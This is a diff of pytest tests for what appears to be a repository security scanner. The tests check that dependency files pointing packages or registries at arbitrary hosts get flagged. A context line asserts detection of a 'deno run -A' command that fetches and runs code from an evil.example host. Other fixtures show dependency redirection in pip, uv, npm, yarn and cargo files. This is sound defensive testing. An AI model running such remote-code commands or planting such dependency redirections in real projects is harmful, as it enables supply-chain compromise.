@@ -269,3 +269,42 @@ def test_a_program_that_an_interpreter_runs_from_an_address_is_found_except_from
         assert not rules(f"deno run -A http://{own}/a.ts"), own
     for other in ("10", "127.0.0.1", "192.168.0.2", "172.20", "localhost", f"localhost:{'x' * 70}@a", "[::1]@b"):
         assert rules(f"deno run -A http://{other}.evil.example/a.ts"), other
+
+
+@pytest.mark.parametrize(
+    ("path", "text"),
+    [
+        ("requirements.txt", "requests\nhelper @ https://c.invalid/helper-1.0.tar.gz\n"),
+        ("requirements.txt", "helper[a,b] @ git+https://c.invalid/helper\n"),
+        ("pyproject.toml", '[project]\ndependencies = ["helper @ https://c.invalid/helper-1.0-py3-none-any.whl"]\n'),
+        ("pyproject.toml", '[[tool.uv.index]]\nname = "a"\nurl = "https://c.invalid/simple"\n'),
+        ("scripts/a.py", '# /// script\n# dependencies = ["helper @ https://c.invalid/helper-1.0.tar.gz"]\n# ///\n'),
+        ("scripts/a.py", '# /// script\n# [tool.uv]\n# index-url = "https://c.invalid/simple"\n# ///\n'),
+        ("package.json", '{"dependencies": {"@a/b": "https://c.invalid/b.tgz"}}'),
+        ("package.json", '{"dependencies": {"b": "git+https://c.invalid/b"}}'),
+        ("package-lock.json", '{"packages": {"a": {"resolved": "https://c.invalid/a.tgz"}}}'),
+        (".yarnrc.yml", 'npmRegistryServer: "https://c.invalid/npm"\n'),
+        (".cargo/config.toml", '[source.m]\nregistry = "sparse+https://c.invalid/"\n'),
+    ],
+)
+def test_attack_a_list_of_dependencies_names_the_address_of_a_package(path, text):
+    found = {finding.rule for finding in scan(Tree({path: File(text.encode())}))}
+    assert "SH117" in found
+    # At a host that nobody can set up in a minute it is only noted, if at all.
+    known = {
+        finding.rule for finding in scan(Tree({path: File(text.replace("c.invalid", "wheels.example.com").encode())}))
+    }
+    assert "SH117" not in known
+
+
+@pytest.mark.parametrize(
+    ("path", "text"),
+    [
+        ("package.json", '{"repository": {"type": "git", "url": "git+https://github.com/a/b.git"}}'),
+        ("package-lock.json", '{"packages": {"a": {"resolved": "https://registry.npmjs.org/a/-/a-1.tgz"}}}'),
+        ("SKILL.md", "Ask the team @ https://chat.example.com/a for help.\n"),
+        ("a.json", '{"data": "https://files.example.com/data.csv"}'),
+    ],
+)
+def test_addresses_that_are_no_dependencies_are_accepted(path, text):
+    assert not {finding.rule for finding in scan(Tree({path: File(text.encode())}))} & {"SH106", "SH117"}
